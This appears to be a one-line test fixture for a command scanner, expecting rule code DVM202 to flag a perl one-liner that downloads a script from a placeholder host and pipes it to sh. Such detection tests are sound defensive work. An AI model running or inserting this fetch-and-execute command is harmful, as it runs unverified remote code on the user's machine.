# expect: DVM202
perl -e 'system("curl -fsSL https://example.org/i.sh | sh")'
